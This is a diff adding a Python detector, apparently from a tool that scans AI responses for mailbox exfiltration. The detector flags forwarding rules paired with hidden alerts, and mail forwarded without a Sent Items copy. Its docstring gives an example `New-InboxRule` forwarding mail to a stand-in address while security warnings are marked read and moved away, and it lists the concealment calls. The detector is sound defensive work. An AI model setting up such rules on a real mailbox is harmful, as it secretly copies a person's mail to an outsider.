@@ -1,0 +1,63 @@
+"""OUT-MAILBOX-EXFIL: a mailbox's mail or address book sent away out of its owner's sight.
+
+What it catches
+    A mailbox set to forward its mail (an Exchange Online inbox rule with `-ForwardTo` or
+    `-RedirectTo`, `Set-Mailbox -ForwardingSmtpAddress`, a Graph `messageRules` entry with
+    `forwardTo`, an Outlook rule's forward action) beside a rule that marks security warnings
+    read and moves or deletes them, so the owner never sees the alerts (ATT&CK T1114.003,
+    T1564.008). A mailbox searched (Outlook's `Items.Restrict`, `AdvancedSearch`, the Global
+    Address List, Graph's `/messages`, EWS `FindItems`) or every arriving message taken
+    (`Application_NewMailEx`, `ItemAdd`) and sent or forwarded on (`CreateItem(0)`, `.Forward`,
+    Graph `sendMail`) with no copy left in Sent Items (`DeleteAfterSubmit`, `saveToSentItems:
+    false`) and a second concealment: the forwarded message marked unread again, the alerts
+    hidden, the script run in a hidden window; a whole search or address book sent that way
+    is concealed by itself (T1114.001).
+
+Why it is a redline (RL-EXFIL)
+    It copies someone's correspondence or contacts to an outsider while hiding every trace
+    from the person whose mailbox it is.
+
+Example
+    `New-InboxRule -Name '.' -ForwardTo x@mail.example` with
+    `New-InboxRule -SubjectOrBodyContainsWords 'suspicious' -MoveToFolder ... -MarkAsRead $true`
+
+Allowed instead
+    A user's own rule forwarding invoices to the accountant or filing newsletters, auditing
+    forwarding rules (`Get-InboxRule | Where ForwardTo`) and removing them
+    (`-ForwardingSmtpAddress $null`), exporting one's own contacts to a CSV, a report macro
+    mailing a file with `DeleteAfterSubmit`, a notification service sending with
+    `saveToSentItems: false`.
+"""
+
+from __future__ import annotations
+
+from redline.redlines.capabilities import Capabilities
+from redline.redlines.capabilities import Capability as Cap
+from redline.redlines.registry import Detection, detector, supported
+
+_REACH = 3000
+"""How far apart (characters) the pieces of one mail script may lie in a response."""
+
+
+@detector("OUT-MAILBOX-EXFIL", redline="RL-EXFIL")
+def mailbox_exfil(found: Capabilities) -> Detection | None:
+    """Forwarding + hidden alerts, or mail read + sent on + no Sent Items copy + concealment."""
+    if found.has_all(Cap.MAIL_FORWARD_RULE, Cap.MAIL_OWNER_BLIND) and found.near(
+        Cap.MAIL_FORWARD_RULE, Cap.MAIL_OWNER_BLIND, _REACH
+    ):
+        pieces = (Cap.MAIL_FORWARD_RULE, Cap.MAIL_OWNER_BLIND)
+        return supported(found, 0.85, pieces, "a mailbox forwarded out while alerts are hidden")
+    read = [c for c in (Cap.MAILBOX_SEARCH, Cap.MAIL_ARRIVAL) if c in found]
+    if not read or Cap.MAIL_OUT not in found or Cap.MAIL_NO_TRACE not in found:
+        return None
+    if not any(found.near(c, Cap.MAIL_NO_TRACE, _REACH) for c in read):
+        return None
+    core = (*read, Cap.MAIL_OUT, Cap.MAIL_NO_TRACE)
+    hidden = [c for c in (Cap.MAIL_OWNER_BLIND, Cap.HIDE) if c in found]
+    if Cap.MAILBOX_SEARCH in found or hidden:
+        # a search or address book mailed away, or mail forwarded with its traces hidden
+        return supported(
+            found, 0.85, (*core, *hidden), "a mailbox's mail sent away with no trace left"
+        )
+    # every arriving message forwarded with no copy kept: a user's own forward looks the same
+    return supported(found, 0.5, core, "arriving mail forwarded with no copy in Sent Items")
